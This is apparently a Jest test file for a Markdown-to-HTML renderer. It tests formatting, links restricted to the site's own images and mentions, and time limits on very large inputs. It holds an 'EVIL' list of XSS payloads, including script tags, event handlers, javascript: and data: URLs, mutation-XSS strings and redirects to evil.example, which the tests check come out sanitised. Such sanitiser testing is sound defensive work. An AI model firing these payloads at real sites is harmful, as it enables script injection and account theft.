import { describe, expect, it } from '@jest/globals';
import { excerptOf } from './excerpt.js';
import { renderMarkdown } from './render-markdown.js';

const tagsOf = (html: string): string[] =>
  [...html.matchAll(/<([a-z][a-z0-9]*)/gi)].map(([, tag]) => (tag ?? '').toLowerCase());

describe('renderMarkdown', () => {
  it.each([
    ['**a** _b_ ~~c~~ `d`', '<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>'],
    ['one\ntwo', '<p>one<br />\ntwo</p>'],
    ['# A\n### B\n#### C\n# D', '<h3>A</h3>\n<h4>B</h4>\n<h5>C</h5>\n<h3>D</h3>'],
    ['[t](https://a.example "x")', '<p><a href="https://a.example" title="x" rel="nofollow ugc noopener">t</a></p>'],
    [
      'see https://a.example/x.',
      '<p>see <a href="https://a.example/x" rel="nofollow ugc noopener">https://a.example/x</a>.</p>',
    ],
    ['readme.md a@b.ca 127.0.0.1', '<p>readme.md a@b.ca 127.0.0.1</p>'],
    [
      '![a cat](https://a.example/c.png)',
      '<p><a href="https://a.example/c.png" rel="nofollow ugc noopener">a cat</a></p>',
    ],
    [
      '![a cat](/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/cat.webp)',
      '<p><img src="/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/cat.webp" alt="a cat" loading="lazy" decoding="async" /></p>',
    ],
    [
      '![a **"cat"** & <dog>](/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/ch%C3%A2t%20(1).webp#800x600 "x")',
      '<p><img src="/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/ch%C3%A2t%20(1).webp" alt="a &quot;cat&quot; &amp; &lt;dog&gt;" loading="lazy" decoding="async" width="800" height="600" /></p>',
    ],
    ['```ts\nlet a;\n```', '<pre tabindex="0"><code class="language-ts">let a;\n</code></pre>'],
    ['3. c\n4. d', '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'],
    [
      '[here](#post-3) [there](/c/small-museums)',
      '<p><a href="#post-3" rel="nofollow ugc noopener">here</a> <a href="/c/small-museums" rel="nofollow ugc noopener">there</a></p>',
    ],
    [
      'ask [@Amara](/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e)',
      '<p>ask <a class="mention" href="/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e" rel="nofollow ugc noopener">@Amara</a></p>',
    ],
  ])('%j', (source, html) => {
    expect(renderMarkdown(source)).toBe(html);
  });

  it.each([
    '[Amara](/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e)',
    '[@Amara](/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/x)',
    '[@Amara](/people/amara)',
    '[@Amara](https://a.example/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e)',
    '<a class="mention" href="/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e">@Amara</a>',
    '`[@Amara](/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e)`',
  ])('shows no mention in %s', (source) => {
    expect(renderMarkdown(source)).not.toContain('<a class="mention"');
  });

  it('shows task lists with the text as label', () => {
    expect(renderMarkdown('- [ ] one\n- [x] **two**\n- three [ ]')).toBe(
      '<ul>\n<li class="task"><label><input type="checkbox" disabled /> one</label></li>\n' +
        '<li class="task"><label><input type="checkbox" disabled checked /> <strong>two</strong></label></li>\n<li>three [ ]</li>\n</ul>',
    );
  });

  it('shows tables in a box that scrolls, aligned by class', () => {
    const html = renderMarkdown('| a | b |\n|:-:|--:|\n| 1 | 2 |');
    expect(html).toContain('<div class="table-scroll" tabindex="0"><table>');
    expect(html).toContain('<th class="center">a</th>');
    expect(html).toContain('<td class="right">2</td>');
    expect(html).not.toContain('style');
  });

  it('keeps tables of a sensible size', () => {
    const html = renderMarkdown(`| a | b | c |\n|---|---|---|\n${'| 1 | 2 | 3 |\n'.repeat(900)}`);
    expect(html.match(/<tr>/g)).toHaveLength(901);
  });

  it('keeps a text of 40,000 characters whole, and shows one whose HTML would be out of proportion as it was typed', () => {
    const chapter = `## Labels\n\n- [ ] one **bold** thing, and [a link](https://a.example/labels)\n- [x] two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n${'Some words of a paragraph. '.repeat(20)}\n\n`;
    const long = renderMarkdown(chapter.repeat(60).slice(0, 40_000));
    expect(long.match(/<table>/g)?.length).toBeGreaterThan(50);
    expect(long).toContain('<a href="https://a.example/labels"');
    expect(renderMarkdown('<https://a>\n'.repeat(3_300))).toMatch(/^<pre tabindex="0">&lt;https:\/\/a&gt;\n/);
  });

  it('leaves tables and links as typed where there are more of them than anybody writes', () => {
    const [tables, links] = [`|a|b|\n|-|-|\n${'|1|2|\n'.repeat(2_000)}`, '[x](/y) '.repeat(1_500)];
    expect(renderMarkdown(`**b** [l](/l) ${tables}`)).not.toContain('<table>');
    expect(renderMarkdown(`**b** [l](/l)\n\n${tables}`)).toContain('<strong>b</strong> <a href="/l"');
    expect(renderMarkdown(`${links}\n\n|a|\n|-|\n|1|`)).toContain('[x](/y) [x](/y)');
    expect(renderMarkdown(`${links}\n\n|a|\n|-|\n|1|`)).toContain('<table>');
    expect(renderMarkdown(`${links}\n\n${tables}`)).not.toMatch(/<table>|<a /);
  });

  it.each([
    'https://a.example/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png',
    '//a.example/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png',
    'files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png',
    '/./files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png',
    '/files/0198d2b5/a.png',
    '/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/',
    '/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/..',
    '/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/.%2E',
    '/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/preview/large.webp',
    '/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/../../graphql',
    '/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png?b',
    '/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png#b',
    '/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png#0x1',
    '/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png#100000x1',
    '/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png#1x1#1x1',
    '/uploads/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png',
  ])('shows no picture at %s, but links it', (target) => {
    const html = renderMarkdown(`![a](${target})`);
    expect(tagsOf(html)).toEqual(['p', 'a']);
    expect(html).toContain('>a</a>');
  });

  it('shows no picture of which the HTML was not made by its own rule', () => {
    expect(renderMarkdown('<img src="/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png">')).not.toContain('<img');
  });

  it('gives the same HTML for the same text', () => {
    const source = '# T\n\n- [x] a\n\n| a |\n|---|\n| 1 |\n\n> q\n\nhttps://a.example';
    expect(renderMarkdown(source)).toBe(renderMarkdown(source));
  });
});

/** What has run in pages of other programs; here all of it must come out as text or as a harmless link. */
const EVIL = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<form action=//evil.example><input name=password>',
  '<style>*{background:url(//evil.example)}</style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<base href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example)',
  '[x](\\\\evil.example)',
  '[x](ftp://evil.example)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png"onerror="alert(1))',
  '![" onerror="alert(1)](/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png#1x1)',
  '![x](/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png#1x1"onload="alert(1))',
  '![x](/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/..%2f..%2fapi)',
  '![x](\\\\evil.example/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png)',
  '![![x](/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png)](/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a.png)',
  '![" onerror="alert(1)](https://a.example/x)',
  '![x](https://a.example/"onerror="alert(1))',
  '[x](https://a.example/"onmouseover="alert(1))',
  '[x](https://a.example "t" onclick="alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<https://a.example/"><script>alert(1)</script>>',
  'https://a.example/"onmouseover="alert(1)',
  '```" onclick="alert(1)\nx\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [x] <script>alert(1)</script>',
  '# <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<scr<script>ipt>alert(1)</script>',
  '<ScRiPt\u2028>alert(1)</sCrIpT>',
  '\u0000<script>alert(1)</script>',
  "';alert(1)//\\';alert(1)//\";alert(1)//",
  '<a\u00a0href="javascript:alert(1)">x',
  '[a](https://a.example\u202ehttps://b.example)',
];

const TAGS = new Set(
  'p br hr blockquote pre code ul ol li h3 h4 h5 h6 strong em s a div table thead tbody tr th td label input img'.split(
    ' ',
  ),
);
const OF_PICTURES = ['src', 'alt', 'loading', 'decoding', 'width', 'height'];
const ATTRIBUTES = /<[a-z0-9]+((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi;

function expectHarmless(html: string): void {
  for (const tag of tagsOf(html)) expect(TAGS).toContain(tag);
  for (const [tag, attributes = ''] of html.matchAll(ATTRIBUTES)) {
    if (tag.startsWith('<img')) {
      expect(tag).toMatch(/^<img src="\/files\/[0-9a-f-]{36}\/[^"/\\?#]+" alt="[^"]*" /);
      for (const [, name] of attributes.matchAll(/\s([a-z-]+)(?:="([^"]*)")?/gi)) expect(OF_PICTURES).toContain(name);
      continue;
    }
    if (attributes.includes('class="mention"'))
      expect(tag).toMatch(/^<a class="mention" href="\/people\/[0-9a-f-]{36}"/);
    for (const [, name = '', value = ''] of attributes.matchAll(/\s([a-z-]+)(?:="([^"]*)")?/gi)) {
      expect(['href', 'title', 'rel', 'start', 'tabindex', 'type', 'disabled', 'checked', 'class']).toContain(name);
      // No scheme has a per cent sign: what begins with one is a path.
      if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:|\/(?![/\\])|#|%|[^:/\\]*(?:[/?#]|$))/i);
    }
  }
  // Every "<" that is no tag of the list is escaped.
  expect(html.replace(ATTRIBUTES, '').replace(/<\/[a-z0-9]+>/g, '')).not.toContain('<');
}

describe('renderMarkdown and evil texts', () => {
  it.each(EVIL.map((source) => [source]))('%j', (source) => {
    expectHarmless(renderMarkdown(source));
    expectHarmless(renderMarkdown(`> - ${source}\n\n1. ${source}\n\n**${source}**`));
  });

  it.each([
    '[@a](/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e"onmouseover="alert(1))',
    '[@a](/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e "t\\" class=\\"mention")',
    '[@<script>alert(1)</script>](/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e)',
    '[@a](/people/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e\n)<a class="mention" href="//evil.example">',
  ])('mentions: %j', (source) => {
    expectHarmless(renderMarkdown(source));
  });

  it('random mixtures of the corpus', () => {
    let seed = 7;
    const next = (bound: number): number => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return seed % bound;
    };
    const scraps = [
      ...EVIL.flatMap((text) => text.split(/(?<=[<>"'()[\]`])/)),
      '\n',
      '\n\n',
      '> ',
      '- ',
      '| ',
      '`',
      '```\n',
      '**',
      '[',
      '](',
      ')',
      '&',
      '\\',
      '\t',
    ];
    for (let round = 0; round < 600; round += 1) {
      expectHarmless(renderMarkdown(Array.from({ length: 1 + next(40) }, () => scraps[next(scraps.length)]).join('')));
    }
  });

  it.each([
    ['open brackets', '['.repeat(40_000)],
    ['link openers', '[a]('.repeat(10_000)],
    ['images', '!['.repeat(20_000)],
    ['images that close', `${'!['.repeat(10_000)}${']'.repeat(20_000)}`],
    ['images among text', '![x'.repeat(13_000)],
    ['whole images', '![](a)'.repeat(6_600)],
    ['our pictures', '![](/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a#1x1)'.repeat(700)],
    ['sizes', `![](/files/0198d2b5-3c5e-7c3a-9d6b-0c1a2b3c4d5e/a${'#1x1'.repeat(9_900)})`],
    ['whole links', '[](a)'.repeat(8_000)],
    ['quotes', '>'.repeat(40_000)],
    ['nested lists', '- '.repeat(20_000)],
    [
      'deep lists',
      Array.from({ length: 280 }, (_, n) => `${' '.repeat(n)}- a`)
        .join('\n')
        .slice(0, 40_000),
    ],
    ['stars', '*'.repeat(40_000)],
    ['star pairs', '*a **a '.repeat(5_700)],
    ['underscores', '_a__b'.repeat(8_000)],
    [
      'backticks',
      Array.from({ length: 280 }, (_, n) => '`'.repeat(n))
        .join(' ')
        .slice(0, 40_000),
    ],
    ['comments', '<!--'.repeat(10_000)],
    ['angle brackets', '<'.repeat(40_000)],
    ['tags', '<a '.repeat(13_000)],
    ['entities', '&#x1;&a'.repeat(5_700)],
    ['table columns', `${'|a'.repeat(6_000)}|\n${'|-'.repeat(6_000)}|\n${'|\n'.repeat(6_000)}`],
    ['table rows', `|a|b|\n|-|-|\n${'|\n'.repeat(20_000)}`],
    ['a table', `${'|a'.repeat(100)}|\n${'|-'.repeat(100)}|\n${`${'|1'.repeat(100)}|\n`.repeat(150)}`],
    ['table rows in a quote', `> |a|b|\n> |-|-|\n${'> |\n'.repeat(10_000)}`],
    ['pipes', '|'.repeat(40_000)],
    ['addresses', 'http://'.repeat(5_700)],
    ['mail addresses', 'mailto:a@'.repeat(4_400)],
    ['long address', `https://a.example/${'(a'.repeat(19_000)}`],
    ['references', '[a]: b\n'.repeat(5_700)],
    ['tasks', '- [ ] \n'.repeat(5_700)],
    ['tildes', '~~a'.repeat(13_000)],
    ['escapes', '\\'.repeat(40_000)],
    ['line breaks', '\n'.repeat(40_000)],
    ['a breaks', 'a\n'.repeat(20_000)],
    ['rtl', '\u202e'.repeat(40_000)],
    ['emoji', '👩‍👩‍👧'.repeat(5_000)],
  ])('40,000 characters of %s end soon', (_name, source) => {
    const start = performance.now();
    const html = renderMarkdown(source.slice(0, 40_000));
    excerptOf(source.slice(0, 40_000), 200);
    // At most a hundred milliseconds on an idle machine; what is looked for is growth by the square.
    expect(performance.now() - start).toBeLessThan(1_000);
    // Escaped, one character is six at most.
    expect(html.length).toBeLessThanOrEqual(6 * 40_000 + '<pre tabindex="0"></pre>'.length);
    expectHarmless(html);
  });
});
